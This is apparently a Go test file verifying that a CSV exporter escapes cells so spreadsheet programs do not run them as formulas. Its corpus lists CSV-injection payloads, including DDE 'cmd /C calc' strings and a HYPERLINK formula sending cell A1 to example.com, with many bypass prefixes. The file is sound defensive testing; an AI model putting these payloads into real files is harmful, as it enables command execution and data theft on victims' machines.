package tabular_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"mceplatform/backend/tabular"
)

// formulas is the corpus: what spreadsheet programs have been made to run.
func formulas() []string {
	var out []string
	payloads := []string{`1+1`, `cmd|' /C calc'!A0`, `HYPERLINK("http://example.com?x="&A1,"click")`, `WEBSERVICE("http://example.com")`,
		`IMPORTXML("http://example.com","//a")`, `DDE("cmd";"/C calc";"x")`, `SUM(A1:A9)*cmd|' /C calc'!A0`, `rundll32|'x'!A`, `2+5+cmd|' /C calc'!A0`, `A1`}
	for _, lead := range []string{"=", "+", "-", "@", "|", "%", "=+", "\t=", "\r=", "\n=", "\x00=", " =", "\u00a0=", "\u200b=", "\ufeff=", "\u202e=",
		"＝", "＋", "－", "＠", "\"=", "x;=", "x\t=", "x\n=", "x\r\n=", "x;\"=", "x; =", "'\n="} {
		for _, payload := range payloads {
			out = append(out, lead+payload)
		}
	}
	return out
}

// A spreadsheet program may split at another separator than the file's; no cell it then sees may
// begin like a formula.
func TestNoCellOfAnExportIsAFormula(t *testing.T) {
	corpus := formulas()
	if len(corpus) < 200 {
		t.Fatalf("the corpus has shrunk to %d", len(corpus))
	}
	for _, cell := range corpus {
		var b bytes.Buffer
		if err := tabular.WriteCSV(&b, slices.Values([][]string{{"first", cell, "last"}, {cell}})); err != nil {
			t.Fatal(err)
		}
		for _, separator := range []rune{',', ';', '\t', '|'} {
			r := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
			r.Comma, r.LazyQuotes, r.FieldsPerRecord = separator, true, -1
			records, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, seen := range slices.Concat(records...) {
				seen = strings.TrimLeft(seen, " \t\r\n\x00\u00a0\u200b\ufeff\u202e\"")
				if strings.ContainsAny(firstChar(seen), "=+-@%＝＋－＠") {
					t.Errorf("%q split at %q shows the formula %q", cell, separator, seen)
				}
			}
		}
	}
}

func firstChar(s string) string {
	for _, r := range s {
		return string(r)
	}
	return ""
}

func TestWriteCSVIsGolden(t *testing.T) {
	var b bytes.Buffer
	if err := tabular.WriteCSV(&b, slices.Values([][]string{{"Name", "Phone"}, {`Zoë "Z", Müller`, "+4915123429346"}, {"=1+1", ""}})); err != nil {
		t.Fatal(err)
	}
	want := "\ufeff\"Name\",\"Phone\"\r\n\"Zoë \"\"Z\"\", Müller\",\"'+4915123429346\"\r\n\"'=1+1\",\"\"\r\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Error(diff)
	}
}

func TestOwnExportReadsBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		cell := rapid.StringMatching(`[-=+@%']{0,2}[a-zA-Z0-9 äöü,.]{1,20}`).Draw(t, "cell")
		if strings.HasPrefix(cell, "'") {
			t.Skip("an apostrophe of the user's own is not told apart")
		}
		var b bytes.Buffer
		if err := tabular.WriteCSV(&b, slices.Values([][]string{{"x", cell}})); err != nil {
			t.Fatal(err)
		}
		f, err := tabular.Open("x", b.Bytes(), tabular.Options{Delimiter: ","})
		if err != nil {
			t.Fatal(err)
		}
		if len(f.Rows[0].Cells) < 2 {
			if strings.TrimSpace(cell) != "" {
				t.Fatalf("%q is lost", cell)
			}
			return
		}
		if got := tabular.Original(f.Rows[0].Cells[1]); strings.TrimSpace(got) != strings.TrimSpace(cell) {
			t.Fatalf("%q came back as %q", cell, got)
		}
	})
}
